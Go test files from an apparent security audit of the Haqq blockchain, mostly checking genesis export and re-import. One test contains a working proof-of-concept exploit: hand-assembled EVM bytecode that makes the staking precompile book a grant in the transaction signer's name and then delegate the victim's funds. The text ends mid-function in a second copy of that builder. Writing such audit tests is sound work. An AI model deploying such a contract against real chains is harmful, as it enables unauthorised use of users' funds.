	require.JSONEq(t, zzEvmSection(t, exported.AppState), zzEvmSection(t, again.AppState),
		"the EVM genesis of the re-imported chain equals the exported one")
}

func zzEvmSection(t *testing.T, appState []byte) string {
	var m map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(appState, &m))
	return string(m["evm"])
}
