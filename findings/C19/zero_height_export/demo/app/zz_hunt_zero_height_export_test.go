package app

import (
	"fmt"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/utils"
)

// Property C19: the application state can be exported at any height and a fresh chain can be
// initialised from the export with the same module state.
//
// ExportAppStateAndValidators has two modes; `haqqd export --for-zero-height` is the one meant
// for restarting a network from height zero. Here the most ordinary chain there is (the single
// bonded genesis validator of app.Setup, two empty blocks) is exported in that mode and the
// export is imported into a fresh application.
func TestZZHuntExportForZeroHeightReimports(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	a, _ := Setup(false, nil, chainID)
	a.Commit()

	// one more ordinary, empty block
	probe := a.BaseApp.NewContext(true, tmproto.Header{Height: a.LastBlockHeight()})
	vals := a.StakingKeeper.GetAllValidators(probe)
	require.Len(t, vals, 1, "the chain has exactly one validator")
	proposer, err := vals[0].GetConsAddr()
	require.NoError(t, err)
	h := a.LastBlockHeight() + 1
	a.BeginBlock(abci.RequestBeginBlock{Header: tmproto.Header{
		ChainID: chainID, Height: h, Time: time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC), ProposerAddress: proposer,
	}})
	a.EndBlock(abci.RequestEndBlock{Height: h})
	a.Commit()

	// the export at the current height works (this is what app.TestExport covers) ...
	_, err = a.ExportAppStateAndValidators(false, nil, nil)
	require.NoError(t, err, "export at the current height")

	// ... and so must the export for zero height
	exported, err := a.ExportAppStateAndValidators(true, nil, nil)
	require.NoError(t, err, "the application state of a healthy chain must be exportable for zero height")
	require.EqualValues(t, 0, exported.Height)
	require.Len(t, exported.Validators, 1, "the bonded validator is part of the export")

	// a fresh chain from the export carries the same validator
	b := NewHaqq(
		log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
		DefaultNodeHome, 5, encoding.MakeConfig(ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)
	var initPanic interface{}
	func() {
		defer func() { initPanic = recover() }()
		b.InitChain(abci.RequestInitChain{
			ChainId:         chainID,
			Time:            time.Date(2025, 3, 1, 12, 0, 6, 0, time.UTC),
			Validators:      []abci.ValidatorUpdate{},
			ConsensusParams: exported.ConsensusParams,
			AppStateBytes:   exported.AppState,
		})
	}()
	require.Nil(t, initPanic, fmt.Sprintf("InitChain from the zero-height export panicked: %v", initPanic))
	b.Commit()

	ctxB := b.BaseApp.NewContext(true, tmproto.Header{Height: b.LastBlockHeight()})
	valB, found := b.StakingKeeper.GetValidator(ctxB, vals[0].GetOperator())
	require.True(t, found, "the validator exists on the re-imported chain")
	require.Equal(t, vals[0].GetTokens(), valB.GetTokens(), "with the same stake")
	require.True(t, valB.IsBonded(), "and is still bonded")
	require.EqualValues(t, 0, valB.UnbondingHeight, "heights are reset for the new chain")
}
