package app_test

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	cryptoenc "github.com/cometbft/cometbft/crypto/encoding"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	servertypes "github.com/cosmos/cosmos-sdk/server/types"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
	haqqstakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
)

// Property C19: the application state can be exported at any height and a fresh chain can be
// initialised from the export. `haqqd export --for-zero-height --jail-allowed-addrs <valoper,...>`
// is the documented way to do that while keeping only one's own validators in the set
// (ExportAppStateAndValidators(forZeroHeight=true, jailAllowedAddrs, ...)).
//
// History: the genesis validator plus one validator created by MsgCreateValidator, both bonded.
// The export is asked to keep the genesis validator only.
func TestZZHuntZeroHeightExportWithJailAllowList(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	haqq, _ := app.Setup(false, feemarkettypes.DefaultGenesisState(), chainID)

	ctx0 := haqq.BaseApp.NewContext(false, tmproto.Header{ChainID: chainID, Height: 1})
	genesisVal := haqq.StakingKeeper.GetAllValidators(ctx0)[0]
	cons, err := genesisVal.GetConsAddr()
	require.NoError(t, err)

	header := testutil.NewHeader(1, time.Now().UTC(), chainID, cons, nil, nil)
	haqq.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := haqq.BaseApp.NewContext(false, header)
	nextBlock := func() {
		haqq.EndBlock(abci.RequestEndBlock{Height: header.Height})
		haqq.Commit()
		header.Height++
		header.Time = header.Time.Add(5 * time.Second)
		header.AppHash = haqq.LastCommitID().Hash
		haqq.BeginBlock(abci.RequestBeginBlock{Header: header})
		ctx = haqq.BaseApp.NewContext(false, header)
	}

	// a second validator, created the ordinary way
	priv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	operator := sdk.AccAddress(priv.PubKey().Address().Bytes())
	stake := sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(5000).Mul(sdkmath.NewInt(1e18)))
	require.NoError(t, testutil.FundAccount(ctx, haqq.BankKeeper, operator, sdk.NewCoins(stake.Add(stake))))
	msg, err := stakingtypes.NewMsgCreateValidator(
		sdk.ValAddress(operator), ed25519.GenPrivKey().PubKey(), stake,
		stakingtypes.NewDescription("second", "", "", "", ""),
		stakingtypes.NewCommissionRates(sdk.NewDecWithPrec(5, 2), sdk.NewDecWithPrec(20, 2), sdk.NewDecWithPrec(1, 2)),
		sdk.OneInt(),
	)
	require.NoError(t, err)
	_, err = haqqstakingkeeper.NewMsgServerImpl(&haqq.StakingKeeper).CreateValidator(sdk.WrapSDKContext(ctx), msg)
	require.NoError(t, err)
	nextBlock()
	nextBlock()

	second, found := haqq.StakingKeeper.GetValidator(ctx, sdk.ValAddress(operator))
	require.True(t, found)
	require.True(t, second.IsBonded(), "both validators are bonded before the export")

	// export for zero height, keeping the genesis validator only
	var (
		exported  servertypes.ExportedApp
		exportErr error
		panicked  interface{}
	)
	func() {
		defer func() { panicked = recover() }()
		exported, exportErr = haqq.ExportAppStateAndValidators(true, []string{genesisVal.OperatorAddress}, nil)
	}()
	require.Nil(t, panicked, fmt.Sprintf("zero-height export with a jail allow-list must produce a genesis, it panicked: %v", panicked))
	require.NoError(t, exportErr)

	// the exported validator set is the allow-list, the other validator is jailed in the staking genesis
	require.Len(t, exported.Validators, 1)
	var appState map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(exported.AppState, &appState))
	var stakingGenesis stakingtypes.GenesisState
	haqq.AppCodec().MustUnmarshalJSON(appState[stakingtypes.ModuleName], &stakingGenesis)
	for _, v := range stakingGenesis.Validators {
		require.Equal(t, v.OperatorAddress != genesisVal.OperatorAddress, v.Jailed, v.OperatorAddress)
	}

	// and a fresh chain starts from the export
	fresh := app.NewHaqq(
		log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
		app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)
	vals := make([]abci.ValidatorUpdate, 0, len(exported.Validators))
	for _, v := range exported.Validators {
		pk, err := cryptoenc.PubKeyToProto(v.PubKey)
		require.NoError(t, err)
		vals = append(vals, abci.ValidatorUpdate{PubKey: pk, Power: v.Power})
	}
	require.NotPanics(t, func() {
		fresh.InitChain(abci.RequestInitChain{
			ChainId:         chainID,
			Time:            header.Time,
			InitialHeight:   exported.Height,
			ConsensusParams: exported.ConsensusParams,
			Validators:      vals,
			AppStateBytes:   exported.AppState,
		})
	})
}
