package app_test

// Demonstration for C19 (exported genesis re-imports to the same state).
//
// x/erc20 RegisterERC20 copies the string returned by the token contract's symbol()
// verbatim into the bank denomination metadata it creates. The EVM does not restrict the
// bytes of an ABI string, the state machine stores them as they are (gogoproto does not
// check UTF-8), but the genesis document is JSON: bytes that are not valid UTF-8 are
// replaced by U+FFFD when the state is exported. The chain initialised from the export
// therefore holds OTHER metadata bytes than the chain that was exported.

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestZZHuntERC20SymbolSurvivesExportImport(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"

	// ---- chain A: genesis + a few blocks -------------------------------------------
	chainA, _ := app.Setup(false, nil, chainID)
	genesisTime := time.Now().UTC()
	vals := chainA.StakingKeeper.GetAllValidators(chainA.BaseApp.NewContext(false, tmproto.Header{Height: 1}))
	require.Len(t, vals, 1)
	proposer, err := vals[0].GetConsAddr()
	require.NoError(t, err)
	header := testutil.NewHeader(1, genesisTime, chainID, proposer, nil, nil)
	chainA.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := chainA.BaseApp.NewContext(false, header)

	priv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	deployer := sdk.AccAddress(priv.PubKey().Address().Bytes())
	require.NoError(t, testutil.FundAccount(ctx, chainA.BankKeeper, deployer,
		sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(100, 18)))))
	ctx, err = testutil.CommitAndCreateNewCtx(ctx, chainA, 5*time.Second, nil)
	require.NoError(t, err)

	// an ordinary ERC20 (the repository's own ERC20MinterBurnerDecimals) whose symbol is a
	// Latin-1 encoded "T€K"-style string: 0xff 0xfe are not valid UTF-8
	symbol := "T\xff\xfeK"
	qh := baseapp.NewQueryServerTestHelper(ctx, chainA.InterfaceRegistry())
	evmtypes.RegisterQueryServer(qh, chainA.EvmKeeper)
	token, err := testutil.DeployContract(ctx, chainA, priv, evmtypes.NewQueryClient(qh),
		contracts.ERC20MinterBurnerDecimalsContract, "Token", symbol, uint8(18))
	require.NoError(t, err)
	ctx, err = testutil.CommitAndCreateNewCtx(ctx, chainA, 5*time.Second, nil)
	require.NoError(t, err)

	// what the RegisterERC20Proposal handler does (x/erc20/proposal_handler.go)
	pair, err := chainA.Erc20Keeper.RegisterERC20(ctx, token)
	require.NoError(t, err)
	require.Equal(t, erc20types.CreateDenom(token.String()), pair.Denom)

	// end the block, commit; nothing else happens on chain A
	chainA.EndBlock(abci.RequestEndBlock{Height: ctx.BlockHeight()})
	chainA.Commit()

	queryA := chainA.BaseApp.NewContext(true, tmproto.Header{Height: chainA.LastBlockHeight()})
	metaA, found := chainA.BankKeeper.GetDenomMetaData(queryA, pair.Denom)
	require.True(t, found)
	fmt.Printf("symbol() of the contract:      %q (% x)\n", symbol, symbol)

	// ---- export chain A, initialise chain B from the export ---------------------------
	exported, err := chainA.ExportAppStateAndValidators(false, nil, nil)
	require.NoError(t, err)

	chainB := app.NewHaqq(
		log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
		app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)
	chainB.InitChain(abci.RequestInitChain{
		ChainId:         chainID,
		Time:            ctx.BlockTime().Add(5 * time.Second),
		InitialHeight:   exported.Height,
		ConsensusParams: exported.ConsensusParams,
		Validators:      []abci.ValidatorUpdate{},
		AppStateBytes:   exported.AppState,
	})
	chainB.Commit()

	queryB := chainB.BaseApp.NewContext(true, tmproto.Header{Height: chainB.LastBlockHeight()})

	// the token pair itself is carried over ...
	pairB, found := chainB.Erc20Keeper.GetTokenPair(queryB, chainB.Erc20Keeper.GetTokenPairID(queryB, pair.Denom))
	require.True(t, found)
	require.Equal(t, *pair, pairB)

	// ... PROPERTY: and so is everything the registration wrote: the bank metadata query
	// answers the same on both chains
	metaB, found := chainB.BankKeeper.GetDenomMetaData(queryB, pair.Denom)
	require.True(t, found)
	fmt.Printf("symbol on the exported chain:  %q (% x)\n", metaA.Symbol, metaA.Symbol)
	fmt.Printf("symbol on the re-imported one: %q (% x)\n", metaB.Symbol, metaB.Symbol)
	require.Equal(t, metaA, metaB,
		"denomination metadata written by RegisterERC20 must be the same after export + InitGenesis")

	// and the bank section of a second export describes the same state as the first
	var g1, g2 map[string]json.RawMessage
	exported2, err := chainB.ExportAppStateAndValidators(false, nil, nil)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(exported.AppState, &g1))
	require.NoError(t, json.Unmarshal(exported2.AppState, &g2))
	var b1, b2 banktypes.GenesisState
	chainA.AppCodec().MustUnmarshalJSON(g1[banktypes.ModuleName], &b1)
	chainB.AppCodec().MustUnmarshalJSON(g2[banktypes.ModuleName], &b2)
	require.Equal(t, b1.DenomMetadata, b2.DenomMetadata)
}
