package erc20_test

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/erc20"
	"github.com/haqq-network/haqq/x/erc20/types"
)

// Property C19: exporting the state and initialising a fresh chain from the export gives the
// same ERC20 module state - every query is answered identically.
//
// History: governance registers an IBC voucher with the usual kind of metadata (a human
// readable Name that differs from the Base denomination) and the same registration is
// executed again (a repeated proposal, or the same metadata listed twice in one proposal).
// RegisterCoin looks for an existing pair under metadata.Name, while pairs are indexed under
// metadata.Base, so nothing stops the repetition and the denomination ends up with several
// token pairs; the by-denomination index points at the one registered last.
func TestZZHuntRepeatedCoinRegistrationSurvivesExportImport(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	a, _ := app.Setup(false, nil, chainID)

	t0 := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	probe := a.BaseApp.NewContext(false, testutil.NewHeader(1, t0, chainID, nil, nil, nil))
	vals := a.StakingKeeper.GetValidators(probe, 1)
	proposer, err := vals[0].GetConsAddr()
	require.NoError(t, err)
	header := testutil.NewHeader(1, t0, chainID, proposer, nil, nil)
	a.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := a.BaseApp.NewContext(false, header)

	const voucher = "ibc/27394FB092D2ECCD56123C74F36E4C1F926001CEADA9CA97EA622B25F41E5EB2"
	holder := sdk.AccAddress(utiltx.GenerateAddress().Bytes())
	require.NoError(t, testutil.FundAccount(ctx, a.BankKeeper, holder, sdk.NewCoins(sdk.NewInt64Coin(voucher, 5_000_000))))

	metadata := banktypes.Metadata{
		Description: "The native staking token of the Cosmos Hub",
		Base:        voucher,
		DenomUnits: []*banktypes.DenomUnit{
			{Denom: voucher, Exponent: 0},
			{Denom: "atom", Exponent: 6},
		},
		Name:    "Cosmos Hub Atom",
		Symbol:  "ATOM",
		Display: "atom",
	}
	proposal := types.NewRegisterCoinProposal("register ATOM", "register the ATOM voucher", metadata)
	require.NoError(t, proposal.ValidateBasic())
	handler := erc20.NewErc20ProposalHandler(&a.Erc20Keeper)

	current := func(x *app.Haqq, c sdk.Context) types.TokenPair {
		res, err := x.Erc20Keeper.TokenPair(c, &types.QueryTokenPairRequest{Token: voucher})
		require.NoError(t, err)
		return res.TokenPair
	}

	// The proposal passes and is executed again, the way x/gov executes a passed proposal: on a
	// branch of the state that is written only when the handler succeeds. (Repeat until the pair
	// registered last is not the one that happens to sort last by pair id - contract addresses,
	// and with them the ids, are fixed by the module account's nonce, so this is deterministic.)
	execute := func() error {
		cacheCtx, write := ctx.CacheContext()
		if err := handler(cacheCtx, proposal); err != nil {
			return err
		}
		write()
		return nil
	}
	require.NoError(t, execute(), "first registration")
	registrations := 1
	for registrations < 8 {
		if err := execute(); err != nil {
			t.Logf("registration #%d refused: %v", registrations+1, err)
			break
		}
		registrations++
		pairs := a.Erc20Keeper.GetTokenPairs(ctx) // iteration order = order of the exported genesis
		if pairs[len(pairs)-1].Erc20Address != current(a, ctx).Erc20Address {
			break
		}
	}
	t.Logf("the voucher was registered %d times", registrations)

	a.EndBlock(abci.RequestEndBlock{Height: 1})
	a.Commit()
	ctxA := a.BaseApp.NewContext(true, header)
	before := current(a, ctxA)

	exported, err := a.ExportAppStateAndValidators(false, nil, nil)
	require.NoError(t, err)

	var sections map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(exported.AppState, &sections))
	var gs types.GenesisState
	a.AppCodec().MustUnmarshalJSON(sections[types.ModuleName], &gs)
	t.Logf("exported token pairs: %d", len(gs.TokenPairs))
	assert.NoError(t, gs.Validate(), "the exported ERC20 genesis must pass the module's own genesis validation")

	b := app.NewHaqq(
		log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
		app.DefaultNodeHome, 5, encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)
	b.InitChain(abci.RequestInitChain{
		ChainId:         chainID,
		Time:            t0.Add(6 * time.Second),
		Validators:      []abci.ValidatorUpdate{},
		ConsensusParams: exported.ConsensusParams,
		AppStateBytes:   exported.AppState,
		InitialHeight:   exported.Height,
	})
	b.Commit()
	ctxB := b.BaseApp.NewContext(true, header)
	after := current(b, ctxB)

	require.Equal(t, before.Erc20Address, after.Erc20Address, fmt.Sprintf(
		"query TokenPair(%s) must name the same ERC20 contract before the export and after the import", voucher))
}
