package staking_test

import (
	"encoding/binary"
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzStep is one call the hand assembled contract makes: `payload` is sent to `target`;
// when originAt >= 0 the 32-byte word at that offset of the payload is overwritten with ORIGIN
// (that is how Solidity code would pass `tx.origin` as an address argument).
type zzStep struct {
	target   uint16
	payload  []byte
	originAt int
}

// zzBuildContract assembles (there is no solc in the sandbox) the init code of a contract whose
// runtime ignores its calldata and performs the given calls one after the other, reverting with
// the callee's return data as soon as one of them fails. It is the byte code of
//
//	fallback() external { for (s in steps) { (ok,) = s.target.call(s.payload /* with tx.origin patched in */); require(ok); } }
func zzBuildContract(steps []zzStep) []byte {
	push2 := func(v int) []byte {
		b := make([]byte, 2)
		binary.BigEndian.PutUint16(b, uint16(v))
		return append([]byte{0x61}, b...)
	}
	// size of the logic, needed to know where the payloads start
	logicLen := 0
	for _, st := range steps {
		logicLen += 9 + 16 + 5
		if st.originAt >= 0 {
			logicLen += 5
		}
	}
	logicLen++ // STOP
	failDest := logicLen
	logicLen += 11 // fail block

	var code []byte
	off := logicLen
	for _, st := range steps {
		// CODECOPY(0, off, len)
		code = append(code, push2(len(st.payload))...)
		code = append(code, push2(off)...)
		code = append(code, 0x60, 0x00, 0x39)
		if st.originAt >= 0 {
			// MSTORE(originAt, ORIGIN)
			code = append(code, 0x32)
			code = append(code, push2(st.originAt)...)
			code = append(code, 0x52)
		}
		// CALL(gas, target, 0, 0, len, 0, 0)
		code = append(code, 0x60, 0x00, 0x60, 0x00)
		code = append(code, push2(len(st.payload))...)
		code = append(code, 0x60, 0x00, 0x60, 0x00)
		code = append(code, push2(int(st.target))...)
		code = append(code, 0x5a, 0xf1)
		// if !ok goto fail
		code = append(code, 0x15)
		code = append(code, push2(failDest)...)
		code = append(code, 0x57)
		off += len(st.payload)
	}
	code = append(code, 0x00) // STOP
	// fail: returndatacopy(0,0,returndatasize) ; revert(0, returndatasize)
	code = append(code, 0x5b, 0x3d, 0x60, 0x00, 0x60, 0x00, 0x3e, 0x3d, 0x60, 0x00, 0xfd)
	if len(code) != logicLen {
		panic("zzBuildContract: wrong size computation")
	}
	for _, st := range steps {
		code = append(code, st.payload...)
	}

	// init: PUSH2 len DUP1 PUSH1 0x0c PUSH1 0 CODECOPY PUSH1 0 RETURN
	init := append(push2(len(code)), 0x80, 0x60, 0x0c, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3)
	return append(init, code...)
}

// Property C04: when the caller of the staking precompile is not the transaction signer, the signer's
// funds may only be staked within a live grant the signer gave to that caller.
//
// Here the signer never granted anything to anybody. He sends ONE transaction with empty calldata to a
// contract somebody else deployed. The contract (1) calls staking.approve(itself, MAX, [MsgDelegate]) - the
// precompile books that grant with granter = tx.origin although the caller is the contract - and then
// (2) calls staking.delegate(tx.origin, validator, 3e18), which now passes the grant check.
func (s *PrecompileTestSuite) TestZZHuntContractGrantsItselfTheSignersStakeAuthorization() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)

	victim := s.address // genesis account: 5e18 aISLM liquid, 1e18 delegated to each validator
	victimAcc := sdk.AccAddress(victim.Bytes())
	val := s.validators[0] // stands for "the attacker's validator"
	valAddr := val.GetOperator()

	// somebody else deploys the contract
	attacker, attackerPriv := testutiltx.NewAddrKey()
	err = haqqtestutil.FundAccount(s.ctx, s.app.BankKeeper, attacker.Bytes(), sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(1e18))))
	s.Require().NoError(err)
	contractAddr := crypto.CreateAddress(attacker, s.app.EvmKeeper.GetNonce(s.ctx, attacker))

	stake := big.NewInt(3e18)
	approve, err := s.precompile.Pack("approve", contractAddr, abi.MaxUint256, []string{staking.DelegateMsg})
	s.Require().NoError(err)
	delegate, err := s.precompile.Pack(staking.DelegateMethod, common.Address{}, valAddr.String(), stake)
	s.Require().NoError(err)

	initCode := zzBuildContract([]zzStep{
		{target: 0x0800, payload: approve, originAt: -1},
		{target: 0x0800, payload: delegate, originAt: 4}, // first argument := tx.origin
	})
	deployed, err := haqqtestutil.DeployContract(s.ctx, s.app, attackerPriv, s.queryClientEVM, evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	s.Require().NoError(err)
	s.Require().Equal(contractAddr, deployed)
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
	acct := s.app.EvmKeeper.GetAccount(s.ctx, contractAddr)
	s.Require().NotNil(acct)
	s.Require().True(acct.IsContract(), "contract has no code")

	// the signer has not granted anything to the contract (nor to anybody)
	grants, err := s.app.AuthzKeeper.GetAuthorizations(s.ctx, contractAddr.Bytes(), victim.Bytes())
	s.Require().NoError(err)
	s.Require().Empty(grants, "the signer must start without any grant to the contract")

	delBefore, found := s.app.StakingKeeper.GetDelegation(s.ctx, victimAcc, valAddr)
	s.Require().True(found)
	stakedBefore := val.TokensFromShares(delBefore.GetShares()).TruncateInt()
	liquidBefore := s.app.BankKeeper.GetBalance(s.ctx, victimAcc, s.bondDenom).Amount

	// ONE transaction of the signer, empty calldata, no value
	gasPrice := big.NewInt(1_000_000_000)
	gasLimit := uint64(3_000_000)
	_, _, callErr := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: contractAddr,
		ContractABI:  abi.ABI{},
		MethodName:   "",
		PrivKey:      s.privKey,
		GasLimit:     gasLimit,
		GasPrice:     gasPrice,
	})
	// whether the transaction goes through or is refused does not matter to the property; only its effects do
	s.T().Logf("result of the signer's transaction: %v", callErr)
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)

	valAfter, found := s.app.StakingKeeper.GetValidator(s.ctx, valAddr)
	s.Require().True(found)
	delAfter, found := s.app.StakingKeeper.GetDelegation(s.ctx, victimAcc, valAddr)
	s.Require().True(found)
	stakedAfter := valAfter.TokensFromShares(delAfter.GetShares()).TruncateInt()
	liquidAfter := s.app.BankKeeper.GetBalance(s.ctx, victimAcc, s.bondDenom).Amount
	maxFee := new(big.Int).Mul(gasPrice, new(big.Int).SetUint64(gasLimit))

	s.T().Logf("signer's stake at the validator: before %s, after %s", stakedBefore, stakedAfter)
	s.T().Logf("signer's liquid balance:          before %s, after %s (max fee %s)", liquidBefore, liquidAfter, maxFee)
	grantsAfter, err := s.app.AuthzKeeper.GetAuthorizations(s.ctx, contractAddr.Bytes(), victim.Bytes())
	s.Require().NoError(err)
	s.T().Logf("grants signer -> contract after the transaction: %d", len(grantsAfter))

	// the property: a caller that held no grant from the signer cannot have staked the signer's funds
	s.Require().Equal(stakedBefore.String(), stakedAfter.String(),
		"a contract without any grant from the signer changed the signer's stake")
	s.Require().True(liquidAfter.GTE(liquidBefore.Sub(math.NewIntFromBigInt(maxFee))),
		"a contract without any grant from the signer spent the signer's liquid funds")
	s.Require().Empty(grantsAfter, "a contract created a grant in the signer's name")
}
