package ics20_test

import (
	"encoding/binary"
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	ibctesting "github.com/cosmos/ibc-go/v7/testing"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/authorization"
	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/precompiles/ics20"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzStep is one call the hand assembled contract makes: `payload` is sent to `target`;
// when originAt >= 0 the 32-byte word at that offset of the payload is overwritten with ORIGIN
// (that is how Solidity code would pass `tx.origin` as an address argument).
type zzStep struct {
	target   uint16
	payload  []byte
	originAt int
}

// zzBuildContract assembles (there is no solc in the sandbox) the init code of a contract whose
// runtime ignores its calldata and performs the given calls one after the other, reverting with
// the callee's return data as soon as one of them fails. It is the byte code of
//
//	fallback() external { for (s in steps) { (ok,) = s.target.call(s.payload /* with tx.origin patched in */); require(ok); } }
func zzBuildContract(steps []zzStep) []byte {
	push2 := func(v int) []byte {
		b := make([]byte, 2)
		binary.BigEndian.PutUint16(b, uint16(v))
		return append([]byte{0x61}, b...)
	}
	// size of the logic, needed to know where the payloads start
	logicLen := 0
	for _, st := range steps {
		logicLen += 9 + 16 + 5
		if st.originAt >= 0 {
			logicLen += 5
		}
	}
	logicLen++ // STOP
	failDest := logicLen
	logicLen += 11 // fail block

	var code []byte
	off := logicLen
	for _, st := range steps {
		// CODECOPY(0, off, len)
		code = append(code, push2(len(st.payload))...)
		code = append(code, push2(off)...)
		code = append(code, 0x60, 0x00, 0x39)
		if st.originAt >= 0 {
			// MSTORE(originAt, ORIGIN)
			code = append(code, 0x32)
			code = append(code, push2(st.originAt)...)
			code = append(code, 0x52)
		}
		// CALL(gas, target, 0, 0, len, 0, 0)
		code = append(code, 0x60, 0x00, 0x60, 0x00)
		code = append(code, push2(len(st.payload))...)
		code = append(code, 0x60, 0x00, 0x60, 0x00)
		code = append(code, push2(int(st.target))...)
		code = append(code, 0x5a, 0xf1)
		// if !ok goto fail
		code = append(code, 0x15)
		code = append(code, push2(failDest)...)
		code = append(code, 0x57)
		off += len(st.payload)
	}
